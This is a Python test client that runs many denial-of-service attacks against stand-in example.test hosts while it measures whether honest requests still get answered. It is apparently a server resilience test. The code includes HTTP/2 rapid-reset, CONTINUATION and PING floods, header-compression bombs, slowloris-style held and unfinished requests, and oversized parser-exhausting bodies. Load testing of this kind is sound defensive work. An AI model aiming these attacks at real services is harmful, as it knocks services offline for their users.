#!/usr/bin/env python3
"""flood_client.py - a program in the box that means to stop or bloat its door, and beside it an honest one. Everything
is bounded in count: no assertion looks at a clock.

usage: flood_client.py KIND:WHAT:N[,KIND:WHAT:N...] HONEST [stay]    the attacks are made at once while HONEST requests
are asked one after the other, and as many afterwards; prints how many of those were answered, and what the attacks got,
by status; with "stay" it holds what it holds until its input ends
"""
import collections
import select
import socket
import ssl
import sys
import threading

from flood_bodies import body
from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST, SETTINGS, Conn, fields,
                   settings)

FLOOD, HONEST = "flood.example.test", "honest.example.test"
got, lock = collections.Counter(), threading.Lock()


def note(word):
    with lock:
        got[word] += 1


def connect(host=FLOOD, port=80):
    return socket.create_connection((host, port), 60)


def status(s):
    """The first word of an answer that says anything, or why there is none."""
    try:
        line = s.recv(12)
    except OSError as e:
        return type(e).__name__
    return line[9:12].decode("latin-1") if line.startswith(b"HTTP/") else "nothing"


def drain(s):
    try:
        while s.recv(1 << 16):
            pass
    except OSError:
        pass


def ask(s, head, data=b"", host=FLOOD):
    try:
        s.sendall(head.replace(b"HOST", host.encode()) + data)
    except OSError:
        pass


def hello(s):
    """What came of one request until its answer was whole, or the connection ended."""
    s.settimeout(60)
    ask(s, b"GET /hello HTTP/1.1\r\nHost: HOST\r\n\r\n", host=HONEST)
    data = b""
    try:
        while b"hello" not in data:
            more = s.recv(65536)
            if not more:
                break
            data += more
    except OSError:
        pass
    return data


def honest(n):
    """Requests on new connections, and on one that stays. Where the door is crowded it closes one that was used and is
    has been idle for seconds, as any server may; then a client that knows HTTP asks once more on another."""
    answered = 0
    kept = connect(HONEST)
    for i in range(n):
        is_kept = i % 2 == 1
        s = kept if is_kept else connect(HONEST)
        data = hello(s)
        if is_kept and not data:
            kept = connect(HONEST)
            data = hello(kept)
        answered += data.startswith(b"HTTP/1.1 200") and b"hello" in data
        if not is_kept:
            s.close()
        elif not data.startswith(b"HTTP/1.1 200"):
            kept = connect(HONEST)
    return answered


def each(n, fn):
    threads = [threading.Thread(target=fn, daemon=True) for _ in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
        if t.is_alive():
            note("stuck")


def post(kind):
    coding, coded = body(kind)
    s = connect()
    ask(s, b"POST /%s HTTP/1.1\r\nHost: HOST\r\nContent-Encoding: %s\r\nContent-Length: %d\r\n\r\n"
        % (b"post", coding.encode(), len(coded)), coded)
    note(status(s))


def hold(kind, held):
    """Most of a body, and then silence: what was made for it stays."""
    coding, coded = body(kind)
    s = connect()
    ask(s, b"POST /post HTTP/1.1\r\nHost: HOST\r\nContent-Encoding: %s\r\nContent-Length: 100000\r\n\r\n" % coding.encode(), coded[:-4])
    held.append(s)


def get(path, is_read=True):
    s = connect()
    ask(s, b"GET /%s HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n" % path.encode())
    note(status(s))
    if is_read:
        drain(s)
    return s


def h2(case):
    try:
        c = Conn(("h2.example.test", 443, True))
        head = fields([(":method", "GET"), (":scheme", "https"), (":path", "/" + case), (":authority", "h2.example.test")])
        c.send(HEADERS, END_HEADERS | END_STREAM, 1, head)
        while True:
            kind, flags, stream, data = c.frame()
            if kind == HEADERS and b"103" not in data:
                note("answered")
            if stream == 1 and (kind == RST or flags & END_STREAM):
                note("reset" if kind == RST else "whole")
                return
    except Exception as e:
        note(type(e).__name__)


def h2_storm(case, n):
    """Frames that carry nothing, until the door hangs up or all were sent."""
    head = fields([(":method", "GET"), (":scheme", "https"), (":path", "/x"), (":authority", "h2.example.test")])
    try:
        c = Conn(("h2.example.test", 443, True))
        for i in range(n):
            stream = 2 * i + 1
            if case == "rapid-reset":
                c.send(HEADERS, END_HEADERS | END_STREAM, stream, head)
                c.send(RST, 0, stream, b"\0\0\0\x08")
            elif case == "ping":
                c.send(PING, 0, 0, b"12345678")
            elif case == "settings":
                c.send(SETTINGS, 0, 0, settings((4, 65535)))
            elif case == "continuation":
                c.send(HEADERS if i == 0 else CONTINUATION, 0, 1, head if i == 0 else fields([("x", "y" * 100)]))
            elif case == "bomb":
                c.send(HEADERS, END_HEADERS | END_STREAM, stream, head + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 10000)
            elif case == "empty":
                c.send(HEADERS if i == 0 else DATA, END_HEADERS if i == 0 else 0, 1, head if i == 0 else b"")
        note("all sent")
    except Exception:
        note("hung up on")


def ws_pings(n):
    s = connect()
    ask(s, b"GET /ws HTTP/1.1\r\nHost: HOST\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
    note(status(s))
    threading.Thread(target=drain, args=(s,), daemon=True).start()
    ask(s, b"\x89\x80abcd" * n)


def lend(n, held):
    """Answers that the door has to hold whole: some fit into its memory, and the others hear so."""
    mine = [connect("api.example.test") for _ in range(n)]
    for s in mine:
        ask(s, b"GET /oauth/token HTTP/1.1\r\nHost: HOST\r\n\r\n", host="api.example.test")
    waiting = set(mine)
    while len(waiting) > n // 2:
        ready = select.select(list(waiting), [], [], 60)[0]
        if not ready:
            note("silent")
            break
        for s in ready:
            note(status(s))
            waiting.discard(s)
    held.extend(mine)


def unfinished(what, n, held):
    """Most of a request, and then silence."""
    long = b"".join(b"x-%d: %s\r\n" % (i, b"y" * 1000) for i in range(60))
    whole = {"head": b"GET / HTTP/1.1\r\nHost: HOST\r\n" + long,
             "trailer": b"POST /post HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n" + long[:15000],
             "packed": b"POST /post HTTP/1.1\r\nHost: HOST\r\nContent-Length: 300000\r\n\r\n" + body("stored")[1][:200_000],
             "body": b"POST /post HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/json\r\nContent-Length: 300000\r\n\r\n" + b" " * 200_000}
    for _ in range(n):
        host = "body.example.test" if what == "body" else FLOOD
        s = connect(host)
        s.settimeout(5)
        ask(s, whole[what], host=host)
        held.append(s)


def form(what):
    """A body that many conditions look into, as large as any that is read."""
    size, kind = 8 << 20, "application/x-www-form-urlencoded"
    if what == "fields":
        text = b"a&" * (size // 2)
    elif what == "names":
        text = b"%41" * (size // 3)
    elif what == "semi":
        text = b"a;b=%42;" * (size // 8)
    elif what == "values":
        text = b"Action=x&" * (size // 9)
    elif what == "parts":
        kind = "multipart/form-data; boundary=b"
        text = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n' * (size // 60) + b"--b--\r\n"
    elif what == "amp":
        kind, text = "application/json", b'{"a":"' + b"a&" * (size // 2 - 10) + b'"}'
    elif what == "keys":
        kind, text = "application/json", b'{"a":0' + b"".join(b',"%06d":0' % i for i in range(250_000)) + b"}"
    elif what == "deep":
        kind, text = "text/xml", b"<action>" * 60 + b"x" * (1 << 20) + b"</action>" * 60
    elif what == "elements":
        kind, text = "text/xml", b"<action/>" * (size // 9)
    elif what == "roots":
        kind, text = "application/graphql", b"{" + b"a " * (size // 2 - 1) + b"}"
    s = connect("form.example.test")
    s.settimeout(100)
    ask(s, b"POST /form HTTP/1.1\r\nHost: HOST\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n" % (kind.encode(), len(text)), text, "form.example.test")
    note(what + "-" + status(s))


def heads_of(what):
    """A head from which many other requests can be made, or that can be read in many ways."""
    more = {"override": "".join(f"x-http-method-override: M{i}\r\nx-original-url: /p{i}\r\nx-forwarded-host: h{i}.test\r\n" for i in range(4)),
            "list": "x-forwarded-host: " + "a," * 7000 + "\r\nx-http-method-override: " + "GET," * 3000 + "\r\n"}.get(what, "")
    target = {"query": "/form?" + "a&" * 7000, "path": "/" + "a;b=c%20./" * 400}.get(what, "/form?a=b")
    s = connect("form.example.test")
    s.settimeout(100)
    for _ in range(20):
        ask(s, f"GET {target} HTTP/1.1\r\nHost: HOST\r\n{more}\r\n".encode(), host="form.example.test")
        line = s.recv(1 << 16)
        note(what + "-" + line[9:12].decode("latin-1"))


def attack(case, n, held):
    kind, _, what = case.partition(":")
    if kind == "post":
        each(n, lambda: post(what))
    elif kind == "hold":
        for _ in range(n):
            hold(what, held)
    elif kind == "get":
        each(n, lambda: get(what))
    elif kind == "gone":  # both ways, by a program that does not wait
        for head, data in (b"GET /%s", b""), (b"POST /%s", body(what)[1]):
            s = connect()
            ask(s, head % what.encode() + b" HTTP/1.1\r\nHost: HOST\r\nContent-Length: %d\r\n\r\n" % len(data), data)
            s.close()
    elif kind == "unread":  # answers that nobody reads
        for _ in range(n):
            held.append(get(what, False))
    elif kind == "h2":
        each(n, lambda: h2(what))
    elif kind == "storm":
        each(3, lambda: h2_storm(what, n))
    elif kind == "ws":
        each(3, lambda: ws_pings(n))
    elif kind == "idle":
        for _ in range(n):
            held.append(connect(HONEST if what == "plain" else FLOOD, 80))
    elif kind == "idle-tls":
        context = ssl.create_default_context()
        for _ in range(n):
            held.append(context.wrap_socket(connect("tls.example.test", 443), server_hostname="tls.example.test"))
    elif kind == "slow":
        mine = [connect() for _ in range(n)]
        held.extend(mine)
        for s in mine:
            ask(s, b"POST /post HTTP/1.1\r\nHost: HOST\r\nContent-Length: 1000\r\n\r\nx")
        for _ in range(20):
            for s in mine:
                ask(s, b"x")
    elif kind == "chunks":
        def run():
            s = connect()
            ask(s, b"POST /post HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * n + b"0\r\n\r\n")
            note(status(s))
        each(3, run)
    elif kind == "head":
        def run():
            s = connect()
            ask(s, b"GET / HTTP/1.1\r\nHost: HOST\r\n" + b"x: y\r\n" * n if what == "many" else b"GET / HTTP/1.1\r\nHost: HOST\r\nx: " + b"y" * n)
            note(status(s))
        each(10, run)
    elif kind == "lend":
        lend(n, held)
    elif kind == "unfinished":
        unfinished(what, n, held)
    elif kind == "form":
        each(n, lambda: [form(one) for one in what.split("+")])
    elif kind == "heads":
        each(n, lambda: heads_of(what))
    elif kind == "json":
        def run():
            text = b'{"a":"b"' + b"".join(b',"%06d":0' % i for i in range(n)) + b"}"
            s = connect("body.example.test")
            ask(s, b"POST /post HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(text), text, "body.example.test")
            note(status(s))
        each(10, run)
    elif kind == "cert":
        context = ssl.create_default_context()
        for _ in range(n):
            s = context.wrap_socket(connect("cert.example.test", 443), server_hostname="cert.example.test")
            ask(s, b"GET / HTTP/1.1\r\nHost: HOST\r\n\r\n", host="cert.example.test")
            note(status(s))


held = []
want = int(sys.argv[2])
threads = []
for spec in sys.argv[1].split(","):
    case, _, count = spec.rpartition(":")
    threads.append(threading.Thread(target=attack, args=(case, int(count), held)))
for t in threads:
    t.start()
answered = honest(want)
for t in threads:
    t.join()
answered += honest(want)
print(f"answered {answered} of {2 * want}; attack " + " ".join(f"{k}={v}" for k, v in sorted(got.items())), flush=True)
if len(sys.argv) > 3:  # keep what is held until it was weighed
    sys.stdin.read()
